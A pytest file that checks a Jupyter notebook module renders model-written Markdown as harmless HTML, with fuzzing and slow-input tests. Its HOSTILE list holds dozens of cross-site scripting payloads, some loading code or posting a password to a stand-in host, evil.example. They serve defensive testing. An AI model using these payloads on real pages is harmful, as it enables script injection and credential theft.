"""Model-written Markdown becomes inert HTML."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cyllama_jupyter.notebook import static_html
from cyllama_jupyter.notebook.static_html import to_html, verbatim

# Written out again on purpose: a change of the module's lists has to be made twice.
TAGS = {"h1", "h2", "h3", "h4", "h5", "h6", "p", "br", "hr", "blockquote", "pre", "ul", "ol", "li", "a", "code", "em"}
TAGS |= {"strong", "s", "span", "table", "thead", "tbody", "tr", "th", "td"}
ATTRIBUTES = {"a": {"href", "title", "rel"}, "ol": {"start"}, "th": {"align"}, "td": {"align"}}
VOID = {"br", "hr"}


class Inspector(HTMLParser):
    """Reads HTML as it will be read, and fails on whatever is not harmless."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.seen: set[str] = set()
        self.links: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS, tag
        self.seen.add(tag)
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, ()), (tag, name)
            self._check(tag, name, value or "")
        if tag not in VOID:
            self.open.append(tag)

    def _check(self, tag: str, name: str, value: str) -> None:
        if name == "href":
            assert value.lower().startswith(("http://", "https://", "mailto:")), value
            self.links.append(value)
        elif name == "align":
            assert value in {"left", "center", "right"}
        elif name == "start":
            assert value.isdigit()
        elif name == "rel":
            assert (tag, value) == ("a", "noopener noreferrer")

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag, "it may not close what it did not open"

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"a comment: {data!r}")

    def handle_decl(self, decl: str) -> None:
        pytest.fail(f"a declaration: {decl!r}")

    def handle_pi(self, data: str) -> None:
        pytest.fail(f"a processing instruction: {data!r}")

    def unknown_decl(self, data: str) -> None:
        pytest.fail(f"a declaration: {data!r}")


def inspect(html: str) -> Inspector:
    """Return what is in the HTML, having checked that all of it is allowed and closed."""
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    assert inspector.open == []
    return inspector


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script type='module'>import('https://evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<div style='position:fixed;inset:0'>over everything</div>",
    "<form action=https://evil.example><input name=p type=password><button>Log in</button></form>",
    "<button data-commandlinker-command='notebook:run-all-cells' data-commandlinker-args='{}'>x</button>",
    "<a href='#' data-commandlinker-command='apputils:reset'>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='/logout' target=_top onclick=alert(1)>x</a>",
    "<video src=https://evil.example/x.mp4 autoplay></video>",
    "<audio><source onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "</div></div></body></html><script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html><html><head>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "<plaintext>everything after",
    "<textarea><script>alert(1)</script></textarea>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](../../lab?reset)",
    "[x](http:logout)",
    "[x](https:/logout)",
    "[x](#)",
    "[x]()",
    "![]()",
    "[x](?token=1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://a.example \"' onclick='alert(1)\")",
    '[x](https://a.example "\\" onclick=\\"alert(1)")',
    '[x](https://a.example"onclick="alert(1))',
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover="alert(1)>',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](https://evil.example/p.png)',
    "![<script>alert(1)</script>](https://evil.example/p.png)",
    "![](attachment:x)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[![x](https://i.example)](javascript:alert(1))",
    "```<script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    '``` x" onload="alert(1)\ncode\n```',
    '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```',
    "`</code><script>alert(1)</script>`",
    "$</span><script>alert(1)</script>$",
    "$$\n</p><img src=x onerror=alert(1)>\n$$",
    "$$<svg/onload=alert(1)>$$",
    '$$x$$ (label" onclick="alert(1))',
    "| <script>alert(1)</script> | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | c |",
    "- <script>\n- alert(1)\n- </script>",
    "> <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\\<script>alert(1)\\</script>",
    "**<script>**alert(1)**</script>**",
    "\ufeff<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "<\u0130mg src=x onerror=alert(1)>",
    "<\u017fcript>alert(1)</\u017fcript>",  # a long s, whose capital is S
]

MARKDOWN = [
    ("# Hi", "<h1>Hi</h1>\n"),
    ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <s>c</s> <code>d</code></p>\n"),
    ("roses are red\nviolets are blue", "<p>roses are red<br>\nviolets are blue</p>\n"),
    ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>\n'),
    ("```python\nprint('<x>')\n```", "<pre><code>print('&lt;x&gt;')\n</code></pre>\n"),
    ("$x_1 < y_2$", "<p><span>$x_1 &lt; y_2$</span></p>\n"),
    ("so $$e=mc^2$$ it is", "<p>so <span>$$e=mc^2$$</span> it is</p>\n"),
    ("$$\na*b*c\n$$", "<p>$$\na*b*c\n$$</p>"),
    ("$5 and $10", "<p><span>$</span>5 and <span>$</span>10</p>\n"),
    (
        '[a](https://b.example/?c=1&d=2 "e")',
        '<p><a href="https://b.example/?c=1&amp;d=2" title="e" rel="noopener noreferrer">a</a></p>\n',
    ),
    ("[a *b*]() ![c]()", "<p>[a <em>b</em>]() ![c]()</p>\n"),
    ("<m@a.example>", '<p><a href="mailto:m@a.example" rel="noopener noreferrer">m@a.example</a></p>\n'),
    (
        "![a cat](https://b.example/cat.png)",
        '<p><a href="https://b.example/cat.png" rel="noopener noreferrer">a cat</a></p>\n',
    ),
    (
        "at https://b.example/a_b, or so",
        '<p>at <a href="https://b.example/a_b" rel="noopener noreferrer">https://b.example/a_b</a>, or so</p>\n',
    ),
    ("xhttps://b.example ftp://b.example", "<p>xhttps://b.example ftp://b.example</p>\n"),
    (
        "**(HTTPS://b.example/(a))**",
        '<p><strong>(<a href="HTTPS://b.example/(a)" rel="noopener noreferrer">HTTPS://b.example/(a)</a>)</strong></p>\n',
    ),
    (
        "[https://b.example](https://c.example)",
        '<p><a href="https://c.example" rel="noopener noreferrer">https://b.example</a></p>\n',
    ),
    (
        "[a]: https://b.example",
        '<p>[a]: <a href="https://b.example" rel="noopener noreferrer">https://b.example</a></p>\n',
    ),
    (r"so \(x_1 < y\) and \[z\] are", r"<p>so <span>\(x_1 &lt; y\)</span> and <span>\[z\]</span> are</p>" + "\n"),
    (r"\[citation needed\]", "<p>[citation needed]</p>\n"),
    (r"\\(x\\)", r"<p><span>\</span>(x<span>\</span>)</p>" + "\n"),
    ("it is\n\\[\na*b*c\n\\].\nso", "<p>it is</p>\n<p>\\[\na*b*c\n.\\]</p><p>so</p>\n"),
    ("> $$a\n> + b$$\n> c", "<blockquote>\n<p>$$a\n+ b$$</p><p>c</p>\n</blockquote>\n"),
    ("$$ a\n- b\n\nc", "<p><span>$</span><span>$</span> a<br>\n- b</p>\n<p>c</p>\n"),
    (
        "- [x] *a*\n- [ ]  b\n- [y] c\n- [x]\n\n[x] d",
        "<ul>\n<li>☑ <em>a</em></li>\n<li>☐ b</li>\n<li>[y] c</li>\n<li>[x]</li>\n</ul>\n<p>[x] d</p>\n",
    ),
    ("$10, or 20$", "<p><span>$</span>10, or 20<span>$</span></p>\n"),
    ("$10 apples and $x$", "<p><span>$</span>10 apples and <span>$x$</span></p>\n"),
    ("👋🏽 世界", "<p>👋🏽 世界</p>\n"),
    ("", ""),
]

ENDLESS = {
    "quotes": ">" * 10_000,
    "quotes with text": "> " * 60 + "the answer",
    "brackets": "[" * 50_000,
    "images": "![" * 30_000,
    "links": "[a](" * 20_000,
    "stars": "*a **b " * 10_000,
    "backticks": "".join("`" * length + "a" for length in range(300)),
    "lists": "\n".join("  " * depth + "- a" for depth in range(300)),
    "formulas": "$$a\n\n" * 20_000,
    "formulas in brackets": "\\(a \\[" * 15_000,
    "formulas and images": "\\(![a](https://b.example)" * 4_000,
    "prices": "$5 " * 30_000,
    "links that lead somewhere": "http://a " * 11_000,
    "addresses": "https://" * 12_000,
    "addresses in brackets": "https://a(" + ")" * 90_000,
    "tags": "<a " * 30_000,
    "entities": "&#x" * 30_000,
    "a wide table": "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + "|b\n" * 2_000,
    "one line": "x" * 1_000_000,
    "a megabyte": "word " * 200_000,
    "newlines": "\n" * 90_000,
}


@pytest.mark.parametrize("markdown", HOSTILE)
def test_nothing_in_it_runs_or_is_fetched(markdown: str) -> None:
    inspect(to_html(markdown))
    inspect(to_html(f"Some text.\n\n{markdown}\n\nMore *text*."))
    inspect(verbatim(markdown))


@pytest.mark.parametrize(("markdown", "html"), MARKDOWN)
def test_markdown(markdown: str, html: str) -> None:
    assert to_html(markdown) == html
    inspect(html)


def test_tables_keep_their_alignment() -> None:
    html = to_html("| a | b | c |\n|:-:|--:|---|\n| 1 | 2 | 3 |")
    assert '<th align="center">a</th>' in html
    assert '<td align="right">2</td>' in html
    assert "<td>3</td>" in html


def test_refused_links_stay_readable() -> None:
    assert inspect(to_html("[press](javascript:alert(1))")).text.strip() == "[press](javascript:alert(1))"


@pytest.mark.parametrize("name", ENDLESS)
def test_ends_in_reasonable_time(name: str) -> None:
    begin = time.process_time()
    inspect(to_html(ENDLESS[name]))
    assert time.process_time() - begin < 10


@pytest.mark.parametrize("name", ["quotes with text", "lists", "one line", "a wide table"])
def test_what_is_not_rendered_is_shown_as_it_was_written(name: str) -> None:
    assert to_html(ENDLESS[name]) == verbatim(ENDLESS[name])


@pytest.mark.parametrize("error", [RecursionError, ValueError, IndexError])
def test_a_parser_that_fails_costs_no_text(monkeypatch: pytest.MonkeyPatch, error: type[Exception]) -> None:
    def fail(_: str) -> None:
        raise error("a bug")

    monkeypatch.setattr(static_html._PARSER, "parse", fail)
    assert to_html("**an <answer>**") == "<pre>**an &lt;answer&gt;**</pre>"


_MARKS = list("<>/='\"`~*_[]()!#-+|\\:;&${}\n\t x")
_TAGS = ["<script>", "</script>", "<img src=x ", "<svg/onload=", "<a href=", "</p>", "</span>", "</a>", "<!--", "&lt;"]
_REST = [
    "onerror=",
    "style=",
    "javascript:",
    "data:",
    "https://a.b",
    "&#x6a;",
    "](",
    "![",
    "```",
    "$$",
    "\n\n",
    "|-|-|\n",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_MARKS + _TAGS + _REST), max_size=40).map("".join))
def test_no_mixture_of_dangerous_pieces_gets_through(markdown: str) -> None:
    inspect(to_html(markdown))


@settings(deadline=None)
@given(st.text(max_size=200))
def test_no_text_gets_through_or_fails(markdown: str) -> None:
    inspect(to_html(markdown))
    inspect(verbatim(markdown))
